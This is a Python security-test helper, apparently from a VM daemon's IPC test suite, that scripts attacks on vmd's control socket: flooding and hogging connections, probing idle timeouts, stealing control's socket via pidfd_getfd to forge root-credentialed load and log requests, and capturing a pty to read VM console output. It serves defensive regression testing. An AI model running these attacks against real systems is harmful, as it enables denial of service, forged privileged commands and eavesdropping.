#!/usr/bin/env python3
"""The attacks of tests/security/case-ipc on vmd's control socket and on the
parent's end of control's socket, written the way a hostile user (or a
compromised control) would.  Speaks vmctl's wire format (src/common/msg.h,
src/common/proto.h).

  flood N SECONDS       send N status requests on one connection, read
                        nothing, hold it open for SECONDS
  hog N SECONDS         open N connections, hold them for SECONDS; print how
                        many control kept open (not closed at once)
  idle SECONDS          connect, send nothing; print how many seconds until
                        vmd closed it (or "open" after SECONDS)
  forge VMD_PID CONF    as root, take control's socket to the parent
                        (pidfd_getfd) and write root-only requests with uid 0
                        in their cred field for peer ids 0..300: load CONF, log
  pty DEVICE SECONDS    open ptys until one is DEVICE (e.g. /dev/pts/3);
                        print "got" or "not-got"; then print whatever the
                        other end writes to it within SECONDS
"""
import ctypes
import errno
import os
import select
import socket
import struct
import sys
import time

SOCKET = "/run/vmd.sock"
MSG_CTL_STATUS, MSG_CTL_LOAD, MSG_CTL_LOG = 6, 9, 11
VM_NAME_MAX, PATH_MAX = 64, 4096


def header(mtype, length, peer=0):
    return struct.pack("<IIIi", mtype, length, peer, os.getpid())


def target(uid=0, gid=0, pid=0, vm_id=0, name=b"", flags=0):
    # struct ctl_target: cred (uid, gid, pid), id, name[65], 3 bytes of padding, flags
    return struct.pack("<IIiI65s3xI", uid, gid, pid, vm_id, name, flags)


def path_request(path, uid=0):
    return struct.pack("<IIi%ds" % PATH_MAX, uid, 0, 0, path.encode())


def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect(SOCKET)
    return s


def flood(count, hold):
    s = connect()
    s.setblocking(False)
    body = target(flags=0)
    request = header(MSG_CTL_STATUS, len(body)) + body
    sent, deadline = 0, time.time() + 10
    while sent < count and time.time() < deadline:
        try:
            s.send(request)
            sent += 1
        except BlockingIOError:
            time.sleep(0.01)  # vmd stopped reading us: keep pushing
    print("sent %d" % sent, flush=True)
    time.sleep(hold)


def hog(count, hold):
    conns = []
    for _ in range(count):
        try:
            conns.append(connect())
        except OSError as e:
            print("connect: %s" % e, flush=True)
            break
    time.sleep(1)
    # A connection control refused reads end of file at once.
    kept = 0
    for s in conns:
        r, _, _ = select.select([s], [], [], 0)
        if not r:
            kept += 1
        else:
            try:
                if s.recv(1024, socket.MSG_DONTWAIT):
                    kept += 1
            except OSError:
                pass
    print("kept %d of %d" % (kept, len(conns)), flush=True)
    time.sleep(hold)


def idle(limit):
    s = connect()
    start = time.time()
    r, _, _ = select.select([s], [], [], limit)
    if r and s.recv(1024) == b"":
        print("closed after %d" % round(time.time() - start), flush=True)
    else:
        print("open", flush=True)


def pidfd_getfd(pid, fd):
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = os.pidfd_open(pid)
    got = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
    if got < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    os.close(pidfd)
    return got


def control_pid(vmd_pid):
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % entry) as f:
                ppid = int(f.read().rsplit(")", 1)[1].split()[1])
            with open("/proc/%s/cmdline" % entry, "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if ppid == vmd_pid and b"-X" in argv and b"control" in argv:
            return int(entry)
    raise SystemExit("no control process under %d" % vmd_pid)


def forge(vmd_pid, conf):
    fd = pidfd_getfd(control_pid(vmd_pid), 3)  # VMD_CHILD_FD: its socket to the parent
    s = socket.socket(fileno=fd)
    load = path_request(conf, uid=0)
    log = target(uid=0, flags=2)
    written = 0
    for peer in range(0, 301):
        for mtype, body in ((MSG_CTL_LOAD, load), (MSG_CTL_LOG, log)):
            while True:
                try:
                    s.send(header(mtype, len(body), peer) + body, socket.MSG_DONTWAIT)
                    written += 1
                    break
                except BlockingIOError:
                    time.sleep(0.01)
    print("forged %d requests" % written, flush=True)


def pty(device, hold):
    import pty as ptymod
    masters, mine = [], None
    for _ in range(256):
        master, slave = ptymod.openpty()
        name = os.ttyname(slave)
        os.close(slave)
        masters.append(master)
        if name == device:
            mine = master
            break
    print("got" if mine is not None else "not-got", flush=True)
    if mine is None:
        time.sleep(hold)
        return
    deadline, seen = time.time() + hold, b""
    while time.time() < deadline:
        r, _, _ = select.select([mine], [], [], 0.2)
        if r:
            try:
                seen += os.read(mine, 4096)
            except OSError:
                break
    print("read %r" % seen, flush=True)


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "flood":
        flood(int(args[0]), float(args[1]))
    elif cmd == "hog":
        hog(int(args[0]), float(args[1]))
    elif cmd == "idle":
        idle(float(args[0]))
    elif cmd == "forge":
        forge(int(args[0]), args[1])
    elif cmd == "pty":
        pty(args[0], float(args[1]))
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main()
